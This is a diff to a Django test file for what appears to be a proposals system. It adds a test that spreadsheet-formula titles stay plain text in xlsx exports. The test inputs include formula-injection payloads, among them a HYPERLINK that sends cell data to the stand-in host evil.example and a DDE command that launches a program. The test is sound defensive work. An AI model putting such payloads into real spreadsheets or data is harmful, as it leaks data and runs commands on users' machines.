@@ -2,11 +2,14 @@
 
 from __future__ import annotations
 
+import io
+
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.test import Client
 from django.urls import reverse
 
+from renda.core.documents import blank_pdf
 from renda.proposals import services
 from renda.proposals.tests.factories import BODY, replied, world
 
@@ -55,7 +58,7 @@ def test_attachment_download_only_for_those_who_may_open_the_proposal():
         title="关于修缮老旧管网的建议",
         body=BODY,
         topic="城乡建设",
-        attachments=[SimpleUploadedFile("plan.pdf", b"%PDF-1.4\n%%EOF\n")],
+        attachments=[SimpleUploadedFile("plan.pdf", blank_pdf())],
     )
     url = reverse("proposals:attachment", args=[p.attachments.get().pk])
     # when the author and another deputy download it
@@ -64,3 +67,28 @@ def test_attachment_download_only_for_those_who_may_open_the_proposal():
     # then only the author gets it
     assert mine.status_code == 200 and mine["Content-Type"] == "application/pdf"
     assert other.status_code == 404
+
+
+@pytest.mark.parametrize("title", ['=HYPERLINK("http://evil.example/?"&A1,"详情")', "=cmd|' /C calc'!A0", "@SUM(1+1)"])
+def test_formula_in_a_suggestion_title_is_text_in_the_staff_and_unit_exports(title):
+    # given an assigned suggestion whose title is a spreadsheet formula
+    from openpyxl import load_workbook
+
+    from renda.proposals.tests.factories import assigned
+
+    w = world()
+    assigned(w, title=title)
+    staff, unit = Client(), Client()
+    staff.force_login(w.staff)
+    unit.force_login(w.unit_users[0])
+    # when staff export the list and the unit exports its inbox
+    exported = [
+        staff.get(reverse("proposals:list"), {"format": "xlsx"}),
+        unit.get(reverse("proposals:inbox"), {"format": "xlsx"}),
+    ]
+    # then the title cell is text, unchanged, in both workbooks
+    for response in exported:
+        assert response.status_code == 200
+        ws = load_workbook(io.BytesIO(response.content)).active
+        [cell] = [c for row in ws.iter_rows(min_row=2) for c in row if c.value == title]
+        assert cell.data_type == "s"
